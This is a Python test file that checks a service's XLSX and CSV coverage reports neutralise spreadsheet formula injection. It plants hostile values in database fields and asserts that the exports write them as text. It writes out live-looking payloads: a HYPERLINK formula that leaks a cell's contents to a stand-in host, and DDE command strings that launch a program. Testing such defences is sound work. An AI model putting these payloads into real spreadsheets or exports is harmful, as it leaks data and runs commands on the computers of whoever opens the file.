"""Issue 18 item 9: text that a spreadsheet would run as a formula (a plate ``=1+1``, a layout
named ``=HYPERLINK(…)``, a village called ``@SUM(…)``) is written as text in the XLSX and CSV
reports, never as a live formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import openpyxl
import psycopg
import pytest
from fastapi.testclient import TestClient

from tests.api.test_reports import Patrols, store_patrols
from tests.conftest import auth

PLATE = "=1+1"
LAYOUT_NAME = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
VILLAGE_EN = "@SUM(1+1)*cmd|' /C calc'!A0"
GRID_NAME = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile(demo: str, make_device: Any) -> Iterator[Patrols]:
    """The report patrols, with a plate, the layout's name, a village's English name and a
    grid's name set to formulas (put back afterwards)."""
    patrols = store_patrols(demo, make_device)
    device = patrols.devices[0]
    village = next(iter(patrols.grids))
    grid = patrols.grids[village][0]
    with psycopg.connect(demo, autocommit=True) as conn:
        plate = conn.execute("SELECT plate FROM device WHERE identifier = %s", (device,)).fetchone()
        name = conn.execute(
            "SELECT name FROM grid_layout WHERE id = %s", (patrols.layout,)
        ).fetchone()
        en = conn.execute("SELECT name_en FROM admin_area WHERE code = %s", (village,)).fetchone()
        gname = conn.execute(
            "SELECT name FROM grid WHERE layout_id = %s AND code = %s", (patrols.layout, grid)
        ).fetchone()
        assert plate is not None
        assert name is not None
        assert en is not None
        assert gname is not None
        conn.execute("UPDATE device SET plate = %s WHERE identifier = %s", (PLATE, device))
        conn.execute(
            "UPDATE grid_layout SET name = %s WHERE id = %s", (LAYOUT_NAME, patrols.layout)
        )
        conn.execute("UPDATE admin_area SET name_en = %s WHERE code = %s", (VILLAGE_EN, village))
        conn.execute(
            "UPDATE grid SET name = %s WHERE layout_id = %s AND code = %s",
            (GRID_NAME, patrols.layout, grid),
        )
        try:
            yield patrols
        finally:
            conn.execute("UPDATE device SET plate = %s WHERE identifier = %s", (plate[0], device))
            conn.execute(
                "UPDATE grid_layout SET name = %s WHERE id = %s", (name[0], patrols.layout)
            )
            conn.execute("UPDATE admin_area SET name_en = %s WHERE code = %s", (en[0], village))
            conn.execute(
                "UPDATE grid SET name = %s WHERE layout_id = %s AND code = %s",
                (gname[0], patrols.layout, grid),
            )


def _report(client: TestClient, token: str, patrols: Patrols, fmt: str) -> bytes:
    response = client.get(
        "/reports/coverage",
        params={**patrols.window, "level": "grid", "format": fmt},
        headers=auth(token),
    )
    assert response.status_code == 200, response.text
    return response.content


def test_xlsx_report_writes_hostile_text_as_text(
    client: TestClient, tokens: dict[str, str], hostile: Patrols
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(_report(client, tokens["viewer"], hostile, "xlsx")))
    formulas = [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {
        str(cell.value): cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    # the hostile values are there, verbatim, as strings Excel shows with its quote prefix
    assert PLATE in texts
    assert VILLAGE_EN in texts
    about = [t for t in texts if t.startswith(LAYOUT_NAME)]
    assert about, "the layout's name is in the about sheet"
    for value in (PLATE, VILLAGE_EN, about[0]):
        assert texts[value].data_type == "s"
        assert texts[value].quotePrefix


def test_csv_report_neutralises_hostile_text(
    client: TestClient, tokens: dict[str, str], hostile: Patrols
) -> None:
    body = _report(client, tokens["viewer"], hostile, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for r in rows for c in r]
    assert "'" + VILLAGE_EN in cells
    header = rows[0]
    numeric = [header.index("覆盖率% Coverage %"), header.index("巡逻里程km Patrol km")]
    for row in rows[1:]:
        for i, cell in enumerate(row):
            if i in numeric:
                float(cell)  # numbers stay numbers (a negative one would keep its sign)
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (i, cell)
